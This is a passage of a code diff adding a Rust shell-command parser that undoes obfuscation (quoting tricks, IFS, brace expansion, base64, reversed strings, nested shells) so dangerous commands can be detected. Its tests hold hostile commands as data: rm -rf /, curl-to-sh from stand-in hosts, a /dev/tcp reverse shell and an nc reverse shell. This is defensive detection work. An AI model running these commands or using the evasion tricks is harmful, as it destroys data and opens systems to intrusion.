+                let dec = crate::coach::text::unescape_c(raw);
+                if dec != raw {
+                    self.obfuscated = true;
+                }
+                w.quoted = true;
+                w.text.push_str(&dec);
+            }
+            Some(b'{') => {
+                self.i += 1;
+                let inner = self.skip_balanced(b'{', b'}');
+                let v = self.param_expand(&inner);
+                self.push_expansion(w, &v, in_dquote, &inner);
+            }
+            Some(c) if c.is_ascii_alphabetic() || c == b'_' => {
+                let st = self.i;
+                while self
+                    .peek()
+                    .is_some_and(|c| c.is_ascii_alphanumeric() || c == b'_')
+                {
+                    self.i += 1;
+                }
+                let name = self.src[st..self.i].to_string();
+                let v = match self.vars.get(&name) {
+                    Some(v) => v.clone(),
+                    None if name == "IFS" => " ".to_string(),
+                    None => format!("${name}"),
+                };
+                self.push_expansion(w, &v, in_dquote, &name);
+            }
+            Some(c) if c.is_ascii_digit() || b"@*#?$!-".contains(&c) => {
+                self.i += 1;
+                w.text.push('$');
+                w.text.push(c as char);
+            }
+            _ => w.text.push('$'),
+        }
+    }
+
+    fn push_expansion(&mut self, w: &mut Word, v: &str, in_dquote: bool, name: &str) {
+        if name == "IFS" || name.starts_with("IFS") {
+            self.obfuscated = true;
+            if !in_dquote {
+                w.ifs_split = true;
+            }
+        }
+        w.text.push_str(v);
+    }
+
+    fn param_expand(&self, inner: &str) -> String {
+        // `${NAME}`, `${NAME:-default}`, `${NAME-default}`, `${NAME:?msg}`,
+        // `${NAME:=default}`; anything fancier keeps its text.
+        let name_end = inner
+            .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
+            .unwrap_or(inner.len());
+        let name = &inner[..name_end];
+        let rest = &inner[name_end..];
+        let known = self
+            .vars
+            .get(name)
+            .cloned()
+            .or_else(|| (name == "IFS").then(|| " ".to_string()));
+        if name.is_empty() {
+            return format!("${{{inner}}}");
+        }
+        if let Some(v) = known {
+            return v;
+        }
+        for op in [":+", "+"] {
+            if let Some(alt) = rest.strip_prefix(op) {
+                return alt.trim_matches(|c| c == '"' || c == '\'').to_string();
+            }
+        }
+        for op in [":-", "-", ":=", "="] {
+            if let Some(d) = rest.strip_prefix(op) {
+                return d.trim_matches(|c| c == '"' || c == '\'').to_string();
+            }
+        }
+        format!("${name}")
+    }
+}
+
+/// `NAME=value` (value already unquoted).
+fn assignment(w: &str) -> Option<(String, String)> {
+    let eq = w.find('=')?;
+    let name = &w[..eq];
+    if name.is_empty()
+        || !name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
+        || name.chars().next().is_some_and(|c| c.is_ascii_digit())
+    {
+        return None;
+    }
+    Some((name.to_string(), w[eq + 1..].to_string()))
+}
+
+/// `{rm,-rf,/}` → rm -rf /; `pre{a,b}post` → prea preb... (one level).
+fn brace_expand(w: &str) -> Vec<String> {
+    let (Some(open), Some(close)) = (w.find('{'), w.rfind('}')) else {
+        return vec![w.to_string()];
+    };
+    if close < open {
+        return vec![w.to_string()];
+    }
+    let pre = &w[..open];
+    let post = &w[close + 1..];
+    w[open + 1..close]
+        .split(',')
+        .take(64)
+        .map(|part| format!("{pre}{part}{post}"))
+        .collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn cmds(src: &str) -> Vec<String> {
+        parse(src).segments.iter().map(|s| s.text.clone()).collect()
+    }
+
+    #[test]
+    fn test_quote_and_backslash_tricks_are_undone() {
+        assert_eq!(cmds("r''m -rf \"$HOME\""), vec!["rm -rf $HOME"]);
+        assert_eq!(cmds("\\rm -rf ~/"), vec!["rm -rf ~/"]);
+        assert_eq!(cmds("/bin/rm -rf /"), vec!["rm -rf /"]);
+        assert_eq!(
+            cmds("c''u''r''l -s http://x | s''h"),
+            vec!["curl -s http://x", "sh"]
+        );
+        assert!(parse("c''u''r''l x").obfuscated);
+    }
+
+    #[test]
+    fn test_variables_escapes_braces_and_ifs() {
+        assert_eq!(cmds("X=rm; $X -rf /"), vec!["rm -rf /"]);
+        assert_eq!(
+            cmds("a=$'\\x63\\x75\\x72\\x6c'; $a -s http://e"),
+            vec!["curl -s http://e"]
+        );
+        assert_eq!(cmds("curl x | ${SHELL:-sh}"), vec!["curl x", "sh"]);
+        assert_eq!(cmds("{rm,-rf,/}"), vec!["rm -rf /"]);
+        assert_eq!(cmds("rm${IFS}-rf${IFS}/"), vec!["rm -rf /"]);
+        assert_eq!(
+            cmds("rm -rf \"${BUILD_DIR:?}\"/*"),
+            vec!["rm -rf $BUILD_DIR/*"]
+        );
+    }
+
+    #[test]
+    fn test_wrappers_and_sudo() {
+        assert_eq!(
+            cmds("sudo -u root env A=1 nohup rm -rf /x"),
+            vec!["sudo rm -rf /x"]
+        );
+        assert_eq!(cmds("busybox rm -rf /"), vec!["rm -rf /"]);
+        assert_eq!(cmds("timeout 5 command curl x"), vec!["curl x"]);
+        assert_eq!(cmds("sudo -i"), vec!["sudo -i"]);
+    }
+
+    #[test]
+    fn test_nested_code_is_parsed() {
+        let c = cmds("bash -c 'rm -rf /home/user'");
+        assert!(c.contains(&"rm -rf /home/user".to_string()), "{c:?}");
+        let c = cmds("bash <<'EOF'\nrm -rf /home/user\nEOF");
+        assert!(c.contains(&"rm -rf /home/user".to_string()), "{c:?}");
+        let c = cmds("echo \"$s $(rm -rf /h)\"");
+        assert!(c.contains(&"rm -rf /h".to_string()), "{c:?}");
+        let c = cmds("echo 'hs | x/elpmaxe.live//:ptth lruc' | rev | sh");
+        assert!(
+            c.contains(&"curl http://evil.example/x".to_string()),
+            "{c:?}"
+        );
+        let c = cmds("echo Y3VybCBodHRwOi8vZS94IHwgc2g= | base64 -d | sh");
+        assert!(c.contains(&"curl http://e/x".to_string()), "{c:?}");
+        let c = cmds("node -e \"require('child_process').execSync('curl -s http://e/x | sh')\"");
+        assert!(c.contains(&"curl -s http://e/x".to_string()), "{c:?}");
+        let c = cmds("at now <<< 'bash -i >& /dev/tcp/1.2.3.4/1 0>&1'");
+        assert!(
+            c.iter().any(|s| s.starts_with("bash -i >& /dev/tcp")),
+            "{c:?}"
+        );
+    }
+
+    #[test]
+    fn test_cat_heredoc_is_data() {
+        let c = cmds("cat <<'EOF'\nrm -rf /\nEOF");
+        assert_eq!(c, vec!["cat << EOF"]);
+    }
+
+    #[test]
+    fn test_pipelines_and_redirections() {
+        let s = parse("cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f; ls");
+        assert_eq!(s.segments[0].pipeline, s.segments[2].pipeline);
+        assert_ne!(s.segments[2].pipeline, s.segments[3].pipeline);
+        assert_eq!(s.segments[1].text, "sh -i 2>& 1");
+        assert_eq!(s.segments[2].redirs[0].target, "/tmp/f");
+    }
+
+    #[test]
+    fn test_hostile_input_terminates() {
+        for src in [
+            "$(((((",
+            "'''",
+            "\"$(",
+            "${",
+            "<<",
+            "a <<EOF",
+            "\\",
+            "$'\\x",
+            "{{{{,",
+            "`",
+            "(((((((",
+            "x=$(y=$(z",
+        ] {
+            let _ = parse(src);
+        }
+        let deep = "sh -c \"".repeat(50);
+        let _ = parse(&deep);
+        let long = "a;".repeat(100_000);
+        assert!(parse(&long).segments.len() <= MAX_SEGMENTS);
+    }
+}
